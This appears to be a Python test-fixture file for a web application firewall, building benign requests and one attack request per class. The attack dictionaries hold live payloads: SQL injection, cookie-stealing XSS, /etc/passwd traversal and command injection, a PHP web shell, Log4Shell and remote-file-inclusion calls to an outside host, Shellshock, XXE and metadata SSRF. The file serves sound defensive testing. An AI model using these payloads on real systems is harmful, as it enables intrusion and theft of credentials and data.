"""Requests that a firewall lets pass, and one attack of each class."""

from __future__ import annotations

import json
from urllib.parse import quote_plus

HEADERS = (
    "Host: shop.test\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
    "Accept: text/html,application/json;q=0.9,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.5\r\n"
    "Cookie: session=8f2c1d; theme=dark\r\n"
)
FORM = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=----Bound42"
SOAP = "text/xml; charset=utf-8"


def request(target: str = "/", kind: str = "", body: str = "", headers: str = "") -> bytes:
    """A browser's request; a `POST` when there is a body."""
    data = body.encode()
    about = f"Content-Type: {kind}\r\nContent-Length: {len(data)}\r\n" if body else ""
    method = "POST" if body else "GET"
    return f"{method} {target} HTTP/1.1\r\n{HEADERS}{headers}{about}\r\n".encode() + data


def part(name: str, content: str, file: str = "") -> str:
    """A body of one part."""
    given = f'; filename="{file}"\r\nContent-Type: text/plain' if file else ""
    head = f'Content-Disposition: form-data; name="{name}"{given}'
    return f"------Bound42\r\n{head}\r\n\r\n{content}\r\n------Bound42--\r\n"


# What passes under every profile.
ORDINARY = {
    "front page": request(),
    "search": request("/search?q=red+shoes&page=2&sort=price"),
    "form": request("/login", FORM, "user=alice%40shop.test&password=correct+horse&next=%2Fcart"),
    "json": request(
        "/api/cart", "application/json", json.dumps({"items": [{"id": 7, "name": "Tea, green"}], "gift": None})
    ),
    "xml": request("/soap", SOAP, '<?xml version="1.0"?><order number="7"><item>Tea</item></order>'),
    "field": request("/profile", MULTIPART, part("about", "I like long walks.")),
    "file": request("/upload", MULTIPART, part("picture", "some text", "holiday.txt")),
}

# What is refused under every profile.
ATTACKS = {
    "sql": request("/item?id=" + quote_plus("1' UNION SELECT user,password FROM users-- -")),  # noqa: S608
    "sql in a form": request("/login", FORM, "user=" + quote_plus("admin' OR '1'='1' -- ") + "&password=x"),
    "sql in json": request("/api", "application/json", json.dumps({"a": [{"b": "1' UNION SELECT 1,2,version()-- -"}]})),
    "script": request("/search?q=" + quote_plus("<script>alert(document.cookie)</script>")),
    "script in xml": request("/soap", SOAP, "<a><![CDATA[<script>alert(1)</script>]]></a>"),
    "script in a field": request("/profile", MULTIPART, part("about", "<script>alert(1)</script>")),
    "file": request("/view?file=" + quote_plus("../../../../etc/passwd")),
    "remote file": request("/view?page=" + quote_plus("http://192.0.2.7/shell.txt?")),
    "command": request("/ping?host=" + quote_plus("127.0.0.1; cat /etc/passwd")),
    "php": request("/x?a=" + quote_plus("<?php system($_GET['c']); ?>")),
    "php file": request("/upload", MULTIPART, part("picture", "x", "shell.php")),
    "template": request("/x?a=" + quote_plus("${jndi:ldap://192.0.2.7/a}")),
    "java": request("/x?a=" + quote_plus("java.lang.Runtime.getRuntime().exec('id')")),
    "node": request("/x?a=" + quote_plus("require('child_process').exec('id')")),
    "session": request("/x?a=" + quote_plus("<meta http-equiv='set-cookie' content='PHPSESSID=1'>")),
    "scanner": request(headers="X-Scanner: sqlmap\r\n").replace(b"Mozilla/5.0", b"sqlmap/1.8"),
    "shellshock": request(headers="X-Shell: () { :; }; /bin/cat /etc/passwd\r\n"),
    "deserialisation": request("/x?a=" + quote_plus("InvokerTransformer java.lang.ProcessBuilder")),
    "metadata": request("/x?a=" + quote_plus("http://169.254.169.254/latest/meta-data/")),
    "operator": request("/x?a=" + quote_plus("{'$where': 'sleep(100)'}")),
    "header": request("/x?a=" + quote_plus("a\r\nContent-Type: text/html\r\n\r\n<html>")),
}

# What the stock rules alone take for attacks.
ORDINARY_TOO = {
    "json as text": request("/beacon", "text/plain;charset=UTF-8", json.dumps({"events": [{"name": "view", "at": 1}]})),
    "session by another site": request("/back?PHPSESSID=8f2c1d", headers="Referer: https://login.partner.test/\r\n"),
    "prose": request(
        "/search?q=" + "Mark%2C+%27Call+me+when+you+get+to+the+gate+and+I%27ll+come+out+and+open+it+up%27"
    ),
    "escapes": request("/search?q=%5Cu0079%5Cu0065%5Cu0073"),
}
# What the stock rules alone do not see.
ATTACKS_TOO = {
    "base64": request("/x?a=PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ%2B"),
    "json as text": request("/x", "text/plain", json.dumps({"a": "1' UNION SELECT 1,2,version()-- -"})),
    "escapes": request("/x?a=%5Cu003cscript%5Cu003ealert(document.cookie)%5Cu003c/script%5Cu003e"),
    "operator": request("/x?user[$ne]=1&password[$ne]=1"),
    "template": request("/x?a=%7B%7B7*7%7D%7D"),
    "directory": request("/x?a=*)(uid=*))(%7C(uid=*"),
    "entity": request("/x", "application/xml", "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>"),
    "metadata": request("/x?a=http://169.254.169.254/latest/meta-data/"),
}
